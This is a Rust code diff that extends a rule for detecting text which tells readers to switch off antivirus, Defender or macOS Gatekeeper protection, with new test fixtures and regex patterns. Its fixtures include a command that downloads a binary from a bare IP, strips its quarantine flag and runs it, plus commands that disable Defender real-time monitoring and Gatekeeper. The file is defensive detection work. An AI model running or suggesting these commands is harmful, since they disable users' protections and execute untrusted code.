@@ -1,5 +1,6 @@
 //! Protection is to be switched off so that something can be started.
 
+use crate::destination::Kind;
 use crate::link::{Link, links};
 use crate::phrase::{Phrases, is_forbidden, is_told_of, section};
 use crate::rule::{Category, Check, Hit, Rule, Severity, text};
@@ -39,11 +40,21 @@ pub(super) const RULE: Rule = Rule {
         text("```sh\ncurl -L http://8.8.4.4/app -o app && xattr -c app && ./app\n```"),
         text("```powershell\nSet-MpPreference -DisableRealtimeMonitoring $true\n```"),
         text("`sudo spctl --master-disable`"),
+        text("Switch Defender off while it installs; it can be switched on later."),
+        text(
+            "1. Download `Bridge.dmg` from https://bridge.somebody.test/get\n2. Then `xattr -dr com.apple.quarantine /Applications/Bridge.app`\n3. It asks for your password once, this is expected.",
+        ),
     ],
     misses: &[
         text("Never turn off Windows Defender."),
         text("A false positive of the linter can be ignored."),
         text("If macOS refuses to open the app: `xattr -d com.apple.quarantine /Applications/Tool.app`"),
+        text(
+            "Download `Tool.dmg` from https://github.com/org/tool/releases. If macOS refuses to open it: `xattr -d com.apple.quarantine /Applications/Tool.app`",
+        ),
+        text(
+            "Download `Tool.dmg` from https://tool.somebody.test. If macOS refuses to open it: `xattr -d com.apple.quarantine /Applications/Tool.app`",
+        ),
         text("Check that Gatekeeper is enabled and Defender is running."),
         text("OPA Gatekeeper can be disabled per namespace."),
     ],
@@ -51,6 +62,7 @@ pub(super) const RULE: Rule = Rule {
 
 static PHRASES: Phrases = Phrases::new(&[
     r"\b(?:disabl(?:e|ing)|turn(?:ing)? off|paus(?:e|ing)|deactivat(?:e|ing)|switch(?:ing)? off|stop|uninstall|kill) (?:<any> ){0,3}(?:antivirus|anti-virus|windows defender|microsoft defender|defender|smartscreen|macos gatekeeper|real-time (?:protection|scanning)|security software|edr)\b",
+    r"\b(?:turn|switch) (?:<any> ){0,4}(?:antivirus|anti-virus|defender|smartscreen|real-time (?:protection|scanning)|virus protection|security software)(?: <any>){0,2} off\b",
     r"\b(?:add|create|set) (?:<any> ){0,3}(?:exclusion|exception)s? (?:<any> ){0,4}(?:antivirus|anti-virus|defender)\b",
     r"\bset-mppreference\b[^\n]{0,60}(?:-disable\w+ (?:\$true|1)|-exclusion)",
     r"\badd-mppreference\b[^\n]{0,40}-exclusion",
@@ -74,9 +86,29 @@ fn hits(unit: &Unit<'_>) -> Vec<Hit> {
     if !excuses.is_empty() {
         let (before, after) = section(unit, 400);
         let strange = |link: &Link<'_>| link.is_anybodys() || link.is_program();
-        if [before, text, after].iter().any(|part| links(part).iter().any(strange)) {
+        let parts = [before, text, after];
+        let named = || {
+            let packed = parts.iter().any(|part| PACKED.is_in(part));
+            packed && parts.iter().any(|part| ASKS.is_in(part)) && parts.iter().any(|part| is_fetched(part))
+        };
+        if parts.iter().any(|part| links(part).iter().any(strange)) || named() {
             found.extend(excuses.into_iter().map(Hit::at));
         }
     }
     found
+}
+
+/// The name of a program that is fetched, where its address does not say so.
+static PACKED: Phrases = Phrases::new(&[r"\b[\w-]+\.(?:dmg|pkg|exe|msi|app|iso|zip|scr)\b"]);
+
+/// It wants a password, or all rights.
+static ASKS: Phrases = Phrases::new(&[
+    r"\basks? (?:<any> ){0,2}for (?:<any> ){0,2}password\b|\b(?:enter|type|give) (?:<any> ){0,3}password\b|\bas (?:an? )?administrator\b",
+]);
+
+/// Whether something comes from a place that is nobody's known one.
+fn is_fetched(text: &str) -> bool {
+    links(text).iter().any(|link| {
+        !link.to.host.is_empty() && !matches!(link.to.kind, Kind::Vendor | Kind::UserContent | Kind::Private)
+    })
 }
